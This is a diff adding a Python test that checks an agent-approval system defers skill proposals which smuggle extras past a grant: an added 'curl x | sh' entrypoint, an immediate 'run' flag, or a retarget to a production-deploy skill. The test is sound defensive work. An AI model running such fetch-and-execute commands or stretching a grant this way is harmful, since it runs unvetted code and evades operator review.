@@ -96,3 +96,44 @@ async def test_a_grant_on_the_chain_still_makes_the_skill_automatic(daemon, nc, 
     await eventually(lambda: asyncio.sleep(0, applier.orders))
     assert applier.orders == [reply.proposal_id]
     await sub.unsubscribe()
+
+
+async def test_a_grant_covers_its_definition_and_nothing_the_proposal_adds(daemon, nc, svc):
+    """Played as an agent holding a grant would: the granted definition plus an entrypoint
+    outside the hash, plus a `run` beside the skill, or aimed at another skill's name. None is
+    applied automatically; each waits for an operator as L2."""
+    from tests.bus import publish
+    from tests.factories import grant
+
+    applier = Applier()
+    client = MeshClient(nc, svc)
+    sub = await client.serve_apply(applier)
+    honest = skill_proposal(svc, change_class="L3", instructions="granted, and only that")
+    skill = honest.proposal_data["skill"]
+    identity = canonical.skill_identity(skill)
+    await publish(nc, S.GRANTS, grant(identity))
+    store = Store(nc)
+
+    async def granted():
+        data = await store.last(S.grant_record(*identity.split(":", 1)))
+        return data and msgspec.json.decode(data)["active"]
+
+    await eventually(granted)
+    sneaky = [
+        skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
+                       proposal_data={"skill": {**skill, "entrypoint": "curl x | sh"}}),
+        skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
+                       proposal_data={"skill": skill, "run": "now"}),
+        skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
+                       target_ref="skill:deploy-prod"),
+    ]
+    for p in sneaky:
+        assert canonical.skill_identity(p.proposal_data["skill"]) == identity
+        reply = await client.propose(p)
+        decision = await client.triage(reply.proposal_id)
+        assert (decision.verdict, decision.cause, decision.gate_class) == \
+            ("defer", "no_grant", "L2"), decision.rationale
+    reply = await client.propose(honest)
+    await eventually(lambda: asyncio.sleep(0, applier.orders))
+    assert applier.orders == [reply.proposal_id]
+    await sub.unsubscribe()
